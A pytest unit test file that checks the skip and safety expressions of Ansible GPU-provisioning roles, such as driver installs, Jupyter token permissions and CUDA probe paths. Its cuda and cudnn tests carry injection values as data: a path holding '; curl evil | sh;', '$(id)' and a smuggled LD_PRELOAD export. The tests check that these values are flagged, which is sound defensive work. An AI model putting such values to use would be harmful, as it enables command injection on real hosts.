"""The roles' "nothing to do" and "is it safe" expressions (their vars/main.yml), rendered by Ansible's own Templar
against provision_facts answers of the shapes the module returns (tests/unit/test_facts_module.py runs the module).

A converged host skips whole groups of steps on these expressions alone, so a wrong one either re-runs work on every
apply or, worse, skips work that was needed; and the probes' paths go into root-owned files only when these say they
are plain. Each case below has its counter-case.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from ansible.errors import AnsibleError
from ansible.parsing.dataloader import DataLoader
from ansible.plugins.loader import init_plugin_loader
from ansible.template import Templar, trust_as_template

ROLES = Path(__file__).resolve().parents[2] / "roles"
init_plugin_loader()  # lookups (fileglob) and filters, as ansible-playbook sets them up


def trusted(value: Any) -> Any:
    """Role variable files are trusted templates when Ansible loads them for a play; DataLoader alone does not say so."""
    if isinstance(value, str):
        return trust_as_template(value)
    if isinstance(value, dict):
        return {key: trusted(item) for key, item in value.items()}
    if isinstance(value, list):
        return [trusted(item) for item in value]
    return value


def render(role: str, expression: str, *var_files: str, **variables: Any) -> Any:
    loader = DataLoader()
    merged: dict[str, Any] = {}
    for name in ("main.yml", *var_files):
        merged.update(trusted(loader.load_from_file(str(ROLES / role / "vars" / name))))
    merged.update(variables)
    return Templar(loader=loader, variables=merged).template(trust_as_template("{{ " + expression + " }}"))


def stat(kind: str = "file", owner: str = "root", group: str | None = None, mode: str = "0644", **extra: Any) -> dict:
    return {"exists": True, "type": kind, "owner": owner, "group": group or owner, "mode": mode, "uid": 0, "gid": 0,
            "size": 0, "executable": False, **extra}


ABSENT = {"exists": False}

# nvidia_driver ------------------------------------------------------------------------------------------------------

DRIVER = {"nvidia_driver_packages": ["nvidia-driver", "nvidia-kernel-dkms", "nvidia-persistenced"],
          "nvidia_driver_userspace_packages": ["nvidia-smi", "libcuda1"],
          "nvidia_driver_version": "550.163.01-2", "nvidia_driver_install_mode": "auto",
          "ansible_facts": {"virtualization_type": "kvm", "virtualization_role": "guest"}}


def driver(packages: dict, dockerenv: dict = ABSENT, **extra: Any) -> dict:
    return {**DRIVER, **extra, "nvidia_driver_facts": {"packages": packages, "dpkg_unfinished": False,
                                                       "files": {"/.dockerenv": dockerenv}}}


def test_a_converged_driver_has_nothing_to_install() -> None:
    installed = {"nvidia-driver": "550.163.01-2", "nvidia-kernel-dkms": "550.163.01-2",
                 "nvidia-persistenced": "550.163.01-1", "python3-apt": "3.0"}
    assert render("nvidia_driver", "__nvidia_driver_to_install", "Debian-13.yml", **driver(installed)) == []


def test_a_driver_at_another_version_or_missing_is_installed_at_the_planned_one() -> None:
    installed = {"nvidia-driver": "535.247.01-1", "nvidia-kernel-dkms": None, "nvidia-persistenced": "550.163.01-1"}
    # The unversioned package (its own source, its own version) counts at any version; the others at the plan's.
    # (difference() keeps no order; apt takes the names in any.)
    assert sorted(render("nvidia_driver", "__nvidia_driver_to_install", "Debian-13.yml", **driver(installed))) == [
        "nvidia-driver=550.163.01-2", "nvidia-kernel-dkms=550.163.01-2"]


def test_a_container_gets_the_user_space_packages_only() -> None:
    facts = driver({"nvidia-smi": "550.163.01-2", "libcuda1": None}, dockerenv=stat())
    assert render("nvidia_driver", "__nvidia_driver_userspace_only", "Debian-13.yml", **facts) is True
    assert render("nvidia_driver", "__nvidia_driver_to_install", "Debian-13.yml", **facts) == ["libcuda1=550.163.01-2"]
    assert render("nvidia_driver", "__nvidia_driver_userspace_only", "Debian-13.yml", **driver({})) is False


# jupyter -----------------------------------------------------------------------------------------------------------

JUPYTER = {"jupyter_user": "ml", "jupyter_state_dir": "/var/lib/provision/jupyter"}
TOKEN = "/var/lib/provision/jupyter/token"


def jupyter(files: dict, accounts: dict | None = None) -> dict:
    return {**JUPYTER, "jupyter_facts": {"files": files, "accounts": accounts or {}}}


@pytest.mark.parametrize(("token", "in_place"), [
    (stat(owner="ml", mode="0600", size=48), True),
    (stat(owner="ml", mode="0600", size=0), False),  # emptied: Jupyter would take no token at all
    (stat(kind="link", owner="ml", mode="0777", size=48), False),
    (stat(owner="ml", mode="0644", size=48), False),
    (stat(owner="root", mode="0600", size=48), False),
    (ABSENT, False),
])
def test_the_token_is_kept_only_as_the_role_made_it(token: dict, in_place: bool) -> None:
    assert render("jupyter", "__jupyter_token_in_place", **jupyter({TOKEN: token})) is in_place


def test_the_state_directory_is_in_place_only_as_the_accounts_own_0700() -> None:
    made = stat(kind="directory", owner="ml", mode="0700")
    assert render("jupyter", "__jupyter_state_dir_in_place", **jupyter({JUPYTER["jupyter_state_dir"]: made})) is True
    opened = stat(kind="directory", owner="ml", mode="0755")
    assert render("jupyter", "__jupyter_state_dir_in_place", **jupyter({JUPYTER["jupyter_state_dir"]: opened})) is False


def test_the_home_comes_from_the_account_and_a_missing_account_is_named() -> None:
    assert render("jupyter", "__jupyter_home", **jupyter({}, {"ml": {"exists": True, "home": "/home/ml"}})) == "/home/ml"
    with pytest.raises(AnsibleError, match="the account ml does not exist on this host"):
        render("jupyter", "__jupyter_home", **jupyter({}, {"ml": {"exists": False}}))


# cuda and cudnn: what the probe (run as the environment's account) says goes into root's files only when plain ----

def cuda(report: str, **extra: Any) -> dict:
    return {"cuda_probe": {"stdout": report}, "cuda_home": "", "cuda_version": "12.6", "cuda_kind": "runtime", **extra}


GOOD_CUDA = ('{"runtime_version": "12.6", "nvrtc_version": "12.6", "home": "/opt/provision/venv/lib/python3.13/'
             'site-packages/nvidia/cuda_runtime", "library_dirs": ["/opt/provision/venv/lib/python3.13/site-packages/'
             'nvidia/cuda_runtime/lib"]}')


def test_a_plain_cuda_report_passes() -> None:
    assert render("cuda", "__cuda_unplain", **cuda(GOOD_CUDA)) == []
    assert render("cuda", "__cuda_version_ok", **cuda(GOOD_CUDA)) is True
    assert render("cuda", "__cuda_version_ok", **cuda(GOOD_CUDA.replace('"12.6", "nvrtc', '"12.4", "nvrtc'))) is False


@pytest.mark.parametrize("library_dirs", [
    '["/opt/lib\\"; curl evil | sh; \\""]',
    '["relative/lib"]',
    '"/opt/lib"',  # a string, not a list
    '{"a": "/opt/lib"}',
])
def test_a_cuda_report_with_an_unplain_path_is_flagged(library_dirs: str) -> None:
    report = f'{{"runtime_version": "12.6", "home": "/opt/cuda", "library_dirs": {library_dirs}}}'
    assert render("cuda", "__cuda_unplain", **cuda(report)) != []


def test_an_unplain_cuda_home_is_flagged() -> None:
    report = '{"runtime_version": "12.6", "home": "/opt/$(id)", "library_dirs": ["/opt/lib"]}'
    assert render("cuda", "__cuda_unplain", **cuda(report)) == ["/opt/$(id)"]


@pytest.mark.parametrize(("library_dir", "plain"), [
    ('"/opt/provision/venv/lib/python3.13/site-packages/nvidia/cudnn/lib"', True),
    ('"/opt/lib\\nexport LD_PRELOAD=/tmp/x.so"', False),
    ('["/opt/lib"]', False),
    ("null", False),
])
def test_the_cudnn_library_directory_must_be_one_plain_path(library_dir: str, plain: bool) -> None:
    report = f'{{"version": "9.10.2", "library_dir": {library_dir}}}'
    assert render("cudnn", "__cudnn_dir_plain", cudnn_probe={"stdout": report}) is plain


# gpu_verify and host_record -----------------------------------------------------------------------------------------

@pytest.mark.parametrize(("present", "has_gpu"), [
    ({"/dev/nvidiactl", "/proc/driver/nvidia/version"}, True),
    ({"/dev/nvidiactl"}, False),  # the node without a loaded module
    ({"/dev/nvhost-ctrl-gpu"}, True),  # Jetson
    (set(), False),
])
def test_a_gpu_is_a_control_node_with_a_loaded_module_or_jetsons_node(present: set, has_gpu: bool) -> None:
    nodes = ["/dev/nvidiactl", "/proc/driver/nvidia/version", "/dev/nvhost-ctrl-gpu"]
    files = {node: stat(kind="other") if node in present else ABSENT for node in nodes}
    assert render("gpu_verify", "__gpu_verify_has_gpu", gpu_verify_facts={"files": files}) is has_gpu


def test_the_records_directory_is_in_place_only_as_roots_0755() -> None:
    def record(directory: dict) -> Any:
        return render("host_record", "__host_record_dir_in_place", host_record_path="/var/lib/provision/applied.json",
                      host_record_installed={"files": {"/var/lib/provision": directory}})

    assert record(stat(kind="directory", mode="0755")) is True
    assert record(stat(kind="directory", mode="0777")) is False
    assert record(stat(kind="link", mode="0777")) is False
    assert record(ABSENT) is False


def test_what_the_verifier_no_longer_ships_is_stale_and_nothing_else() -> None:
    source = ROLES.parent / "provision" / "verify"
    shipped = sorted(str(p.relative_to(source)) for pattern in ("*.py", "probes/*.py", "kernels/*.cu")
                     for p in source.glob(pattern))
    listed = shipped + ["expect.json", "kernels/", "probes/"]

    def stale(tree: list[str] | None) -> Any:
        return render("gpu_verify", "__gpu_verify_stale", __gpu_verify_source_dir=str(source),
                      gpu_verify_dir="/opt/provision/verify", gpu_verify_facts={"trees": {"/opt/provision/verify": tree}})

    assert stale(listed) == []
    assert stale(None) == []  # no directory yet: files.yml makes it
    assert stale([*listed, "checks.py", "old/", "old/x.cu"]) == ["checks.py", "old/", "old/x.cu"]
